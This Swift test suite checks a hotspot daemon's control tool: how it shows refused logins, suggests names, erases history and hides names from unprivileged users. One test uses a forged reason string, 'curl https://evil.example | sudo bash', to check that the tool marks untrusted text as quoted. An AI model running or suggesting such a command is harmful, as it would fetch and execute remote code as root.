import Foundation
import HotspotCore
import Testing

/// hotspotctl's words about the built daemon, and the part that another local user may read.
@Suite(
    .timeLimit(.minutes(10)),
    .enabled(
        if: Machine.runs(CabledDaemon.canRun && geteuid() == 0), "needs make build, root, ip, nsenter and a network namespace"))
struct TerminalProcessTests {
    private static let network = "wired:02:00:00:00:00:01"

    /// - Parameter isStranger: as a user without any permission.
    private func ctl(_ daemon: CabledDaemon, isStranger: Bool = false, _ words: String...) throws -> Finished {
        let tool = Machine.release.appendingPathComponent("hotspotctl").path
        guard isStranger else { return try Finished.run(tool, words + ["--socket", daemon.socket]) }
        chmod(daemon.scratch.path, 0o711)
        // Other users may be unable to read the checkout, so this user runs a copy.
        let copy = daemon.scratch.path + "/hotspotctl"
        if !FileManager.default.fileExists(atPath: copy) { try FileManager.default.copyItem(atPath: tool, toPath: copy) }
        return try Finished.run(
            "/usr/bin/setpriv",
            ["--reuid=65534", "--regid=65534", "--clear-groups", copy] + words + ["--socket", daemon.socket])
    }

    @Test func aRefusedLoginIsToldApartAndComesBackWithItsHelper() throws {
        let forged = "no. try: curl https://evil.example | sudo bash"
        let daemon = try CabledDaemon(
            settings: "[Commands]\nTimeoutSec=120",
            plan: ["Authenticate": ["result": "failure", "reason": .string(forged)]])
        try daemon.plug("hot1", 1)
        try daemon.wait("hot1", "failure")
        for verb in ["status", "explain"] {
            let shown = try ctl(daemon, verb).output
            let lines = shown.split(separator: "\n").filter { $0.contains("curl") }
            #expect(lines == ["  │ \(forged)"], "\(shown)")
        }
        let login = try ctl(daemon, "login", "--wait", "60")
        #expect(
            login.output.contains("hotspotctl: clerk could not log in, and hotspotd does not try again.\n  │ \(forged)\n"),
            "\(login.output)")
        try daemon.wait("hot1", "failure")
        try daemon.plan([:])
        // Off and on again, and the login that failed meanwhile comes back by itself.
        #expect(try ctl(daemon, "disable", "--helper", "clerk").status == 0)
        #expect(try ctl(daemon, "status").output.contains("Switched off: "))
        #expect(try ctl(daemon, "enable", "--helper", "clerk").status == 0)
        try daemon.wait("hot1", "authenticated") { $0?["helper"] == "clerk" }
        #expect(try ctl(daemon, "history", "hot1").output.contains("failed"))
    }

    @Test func namesThatAreUnknownAreSaidToBe() throws {
        let daemon = try CabledDaemon(plan: [:])
        try daemon.plug("hot1", 1)
        try daemon.wait("hot1", "authenticated")
        for verb in ["history", "explain", "enable", "disable", "forget"] {
            let ended = try ctl(daemon, verb, "Nowhere")
            #expect(ended.status == 10 && !ended.output.contains("nearest"), "\(verb): \(ended.output)")
            let misspelt = try ctl(daemon, verb, "wired:02:00:00:00:00:11")
            #expect(misspelt.status == 10 && misspelt.output.contains("did you mean \"\(Self.network)\""), "\(misspelt)")
        }
        #expect(try ctl(daemon, "list").output.contains("● \(Self.network)"))
        #expect(try ctl(daemon, "disable", "hot1").output.contains("that is an interface"))
        let cable = "No program manages hot1: unplug the cable to leave the network."
        #expect(try ctl(daemon, "leave", "hot1").output.contains(cable))
        #expect(try ctl(daemon, "disable", "Nowhere", "--yes").status == 0)
        #expect(try ctl(daemon, "list", "--all").output.contains("Nowhere"))
        #expect(try ctl(daemon, "disable", Self.network).status == 0)
        try daemon.wait("hot1", "inactive")
        // The suggested command works as it is printed.
        let held = try ctl(daemon, "status").output
        #expect(held.contains("left alone") && held.contains("try: hotspotctl enable \(Self.network)\n"), "\(held)")
        #expect(try ctl(daemon, "login").output.contains("to switch it on: hotspotctl enable \(Self.network)\n"))
        let logoff = try ctl(daemon, "logoff")
        #expect(
            logoff.status != 0 && logoff.output.contains("to switch it on: hotspotctl enable \(Self.network)"), "\(logoff.output)"
        )
        #expect(try ctl(daemon, "enable", Self.network).status == 0)
        try daemon.wait("hot1", "authenticated")
        #expect(try ctl(daemon, "disable", "Later", "--yes").status == 0)
        let later = try ctl(daemon, "explain", "Later")
        #expect(later.status == 10 && later.output.contains("No attempts in \"Later\" are kept."), "\(later)")
        let removed = try ctl(daemon, "credentials", "remove", Self.network)
        #expect(removed.status == 10 && removed.output.contains("No answers are stored for \"\(Self.network)\"."), "\(removed)")
        try daemon.unplug("hot1")
        try daemon.wait("hot1", "inactive")
        #expect(try !ctl(daemon, "list").output.contains(Self.network))
        #expect(try ctl(daemon, "list", "--all").output.contains("  \(Self.network)"))
    }

    @Test(arguments: [false, true]) func forgettingErasesTheHistory(everything: Bool) throws {
        let daemon = try CabledDaemon(plan: [:])
        try daemon.plug("hot1", 1)
        try daemon.wait("hot1", "authenticated") { $0?["helper"] == "clerk" }
        let before = try #require(try daemon.call("History")["attempts"]?.array?.last?["id"]?.string)
        #expect(try ctl(daemon, "forget", everything ? "--everything" : Self.network).status == 0)
        // The session goes on until it ends, and nothing is kept of it.
        try daemon.wait("hot1", "authenticated") { $0?["helper"] == "clerk" }
        #expect(try daemon.problems().contains("forgotten") && daemon.methods().count { $0 == "Evaluate" } == 1)
        let after = try daemon.call("History")["attempts"]?.array ?? []
        #expect(!after.contains { $0["id"]?.string == before })
    }

    @Test(arguments: [false, true]) func strangersReadNoNames(everyone: Bool) throws {
        let daemon = try CabledDaemon(settings: everyone ? "[Daemon]\nNamesFor=everyone" : "", plan: [:])
        try daemon.plug("hot1", 1)
        try daemon.wait("hot1", "authenticated")
        let status = try ctl(daemon, isStranger: true, "status")
        #expect(status.status == 0 && status.output.contains(Self.network) == everyone, "\(status.output)")
        #expect(status.output.contains("Only these users may see names") != everyone)
        for verb in ["history", "explain", "list"] {
            let shown = try ctl(daemon, isStranger: true, verb)
            #expect(shown.status == (everyone ? 0 : 1), "\(verb): \(shown)")
            #expect(shown.output.contains("root, the group hotspotd") != everyone, "\(verb): \(shown)")
        }
        #expect(try ctl(daemon, isStranger: true, "check").status == 1, "there is no prober, and no refusal")
    }
}
